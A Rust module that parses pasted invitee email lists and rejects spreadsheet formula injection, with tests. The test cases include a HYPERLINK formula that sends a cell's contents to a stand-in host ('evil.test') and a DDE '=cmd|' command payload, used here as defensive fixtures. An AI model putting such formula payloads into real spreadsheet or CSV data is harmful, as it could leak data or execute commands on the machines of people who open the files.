//! Addresses of people to invite, as they are pasted: from a mail program's recipients, a
//! column of a table, a message.

use super::{Email, Invalid, text};

/// Most characters of a row that are kept: the longest address has 254.
const MAX_ROW: usize = 320;

/// What no address of ours has: it would need quotes that few mail servers take, and stands
/// where a list or a formula was taken for an address.
const NOT_IN_ADDRESSES: &[char] = &['"', '(', ')', '<', '>', ',', ';', ':', '\\', '[', ']'];

/// Reads the address out of one entry: `ada@x.test`, `Ada Lovelace <ada@x.test>`,
/// `"Lovelace, Ada" <ada@x.test>`, `mailto:ada@x.test`.
///
/// # Errors
/// [`Invalid`] for the field `email`.
pub fn parse_invitee(entry: &str) -> Result<Email, Invalid> {
    let entry = text::trimmed(entry);
    if looks_like_a_formula(entry) {
        return Err(Invalid::new(
            "email",
            "This looks like a formula, not like an address.",
        ));
    }
    let address = match (entry.rfind('<'), entry.strip_suffix('>')) {
        (Some(start), Some(inside)) if start < inside.len() => &inside[start + 1..],
        _ => entry,
    };
    let address = text::trimmed(address);
    let address = match address.get(..7) {
        Some(scheme) if scheme.eq_ignore_ascii_case("mailto:") => &address[7..],
        _ => address,
    };
    let address = address.trim_matches(['"', '\'']);
    let email = Email::parse(address)?;
    if email.as_str().contains(NOT_IN_ADDRESSES) {
        return Email::parse("");
    }
    Ok(email)
}

/// Spreadsheets run cells that begin so. `+` and `-` begin addresses, too.
fn looks_like_a_formula(entry: &str) -> bool {
    match entry.chars().next() {
        Some('=' | '@') => true,
        Some('+' | '-') => entry.contains(['(', '|', '!']),
        _ => false,
    }
}

/// Takes a pasted text apart, at commas, semicolons, tabs and ends of lines that are neither
/// in quotes nor in angle brackets, and where white space divides addresses. Entries are what
/// stood there, each cut to what is worth keeping; empty ones are left out.
pub fn split_pasted(pasted: &str) -> Vec<String> {
    let mut entries = Vec::new();
    // A part of a name that a comma follows: `Lovelace, Ada <ada@x.test>`.
    let mut surname: Option<String> = None;
    for (part, end) in parts(pasted) {
        let part = text::trimmed(&part);
        if part.is_empty() {
            continue;
        }
        let has_brackets = part.contains('<');
        if let Some(surname) = surname.take() {
            if has_brackets {
                entries.push(format!("{surname}, {part}"));
                continue;
            }
            entries.push(surname);
        }
        if end == Some(',') && !has_brackets && !part.contains('@') {
            surname = Some(part.to_owned());
            continue;
        }
        let words: Vec<&str> = part.split_whitespace().collect();
        if !has_brackets && words.len() > 1 && words.iter().all(|word| word.contains('@')) {
            entries.extend(words.into_iter().map(str::to_owned));
        } else {
            entries.push(part.to_owned());
        }
    }
    entries.extend(surname);
    for entry in &mut entries {
        *entry = kept(entry);
    }
    entries
}

/// As much of a row as is worth keeping. A zero, which the database takes nowhere, becomes
/// what stands for a character that cannot be read.
pub fn kept(row: &str) -> String {
    row.chars()
        .take(MAX_ROW)
        .map(|c| if c == '\0' { '\u{fffd}' } else { c })
        .collect()
}

/// The parts between separators, each with the separator that ended it.
fn parts(pasted: &str) -> Vec<(String, Option<char>)> {
    let mut parts = Vec::new();
    let mut part = String::new();
    let (mut in_quotes, mut in_brackets) = (false, false);
    for c in pasted.chars() {
        let is_end_of_line = matches!(c, '\n' | '\r');
        let separates = matches!(c, ',' | ';' | '\t') && !in_quotes && !in_brackets;
        if is_end_of_line || separates {
            parts.push((std::mem::take(&mut part), Some(c)));
            // A quote that nobody closed must not swallow the lines after it.
            (in_quotes, in_brackets) = (false, false);
            continue;
        }
        match c {
            '"' if !in_brackets => in_quotes = !in_quotes,
            '<' if !in_quotes => in_brackets = true,
            '>' => in_brackets = false,
            _ => {}
        }
        part.push(c);
    }
    parts.push((part, None));
    parts
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addresses(pasted: &str) -> Vec<Result<String, ()>> {
        split_pasted(pasted)
            .iter()
            .map(|entry| {
                parse_invitee(entry)
                    .map(|email| email.to_string())
                    .map_err(|_invalid| ())
            })
            .collect()
    }

    #[test]
    fn what_mail_programs_copy_is_understood() {
        for (pasted, expected) in [
            (
                "Ada Lovelace <ada@x.test>, bob@y.test; carol@z.test",
                &["ada@x.test", "bob@y.test", "carol@z.test"][..],
            ),
            (
                "\"Lovelace, Ada\" <ada@x.test>; Babbage, Charles <charles@x.test>",
                &["ada@x.test", "charles@x.test"],
            ),
            (
                "ada@x.test\r\nbob@y.test\n\n carol@z.test ",
                &["ada@x.test", "bob@y.test", "carol@z.test"],
            ),
            (
                "ada@x.test bob@y.test\tcarol@z.test",
                &["ada@x.test", "bob@y.test", "carol@z.test"],
            ),
            (
                "<ada@x.test>,mailto:bob@y.test,'carol@z.test'",
                &["ada@x.test", "bob@y.test", "carol@z.test"],
            ),
            ("\u{feff}ADA@X.test\u{200b};;,", &["ada@x.test"]),
            (
                "\"Ada <ada@x.test>\nbob@y.test",
                &["ada@x.test", "bob@y.test"],
            ),
            ("+ada@x.test, -bob@y.test", &["+ada@x.test", "-bob@y.test"]),
            ("", &[]),
            (" ,;\n\t", &[]),
        ] {
            let found = addresses(pasted);
            let expected: Vec<_> = expected.iter().map(|it| Ok((*it).to_owned())).collect();
            assert_eq!(found, expected, "{pasted:?}");
        }
    }

    #[test]
    fn what_is_no_address_is_a_row_of_its_own() {
        for (pasted, rows, good) in [
            ("Ada Lovelace, bob@y.test", 2, 1),
            ("Ada", 1, 0),
            ("=HYPERLINK(\"http://evil.test\"&A1) ; bob@y.test", 2, 1),
            ("=cmd|'/c calc'!a@x.test", 1, 0),
            ("@SUM(1)@x.test", 1, 0),
            ("+SUM(A1)@x.test", 1, 0),
            ("ada@x.test bob", 1, 0),
            ("Ada <ada@x.test", 1, 0),
            ("ada@@x.test; a b@c", 2, 0),
            ("ada@x.test\0", 1, 0),
        ] {
            let found = addresses(pasted);
            let passed = found.iter().filter(|row| row.is_ok()).count();
            assert_eq!((found.len(), passed), (rows, good), "{pasted:?}: {found:?}");
        }
    }

    #[test]
    fn rows_are_cut_and_hold_nothing_that_cannot_be_stored() {
        let rows = split_pasted(&format!("{}\0\n\0", "a".repeat(10_000)));
        assert_eq!(rows[0].chars().count(), MAX_ROW);
        assert!(rows.iter().all(|row| !row.contains('\0')));
    }
}

#[cfg(all(test, feature = "server"))]
mod properties {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        /// Whatever is pasted, each row is bounded and can be stored, and what is taken for
        /// an address is one.
        #[test]
        fn nothing_that_is_pasted_breaks_it(pasted in "[\\PC\n\r\t,;<>\"@\0]{0,200}") {
            for entry in split_pasted(&pasted) {
                prop_assert!(!entry.is_empty() && entry.chars().count() <= MAX_ROW);
                prop_assert!(!entry.contains('\0'));
                if let Ok(email) = parse_invitee(&entry) {
                    prop_assert!(!email.as_str().contains(NOT_IN_ADDRESSES));
                }
            }
        }

        /// Addresses that are divided in any usual way are all found.
        #[test]
        fn every_address_is_found(
            names in proptest::collection::vec("[a-z]{1,8}", 1..50),
            separator in prop_oneof![Just(", "), Just(";"), Just("\n"), Just("\r\n"), Just(" "), Just("\t")],
        ) {
            let sent: Vec<String> = names.iter().map(|name| format!("{name}@x.test")).collect();
            let found: Vec<String> = split_pasted(&sent.join(separator));
            prop_assert_eq!(found, sent);
        }
    }
}
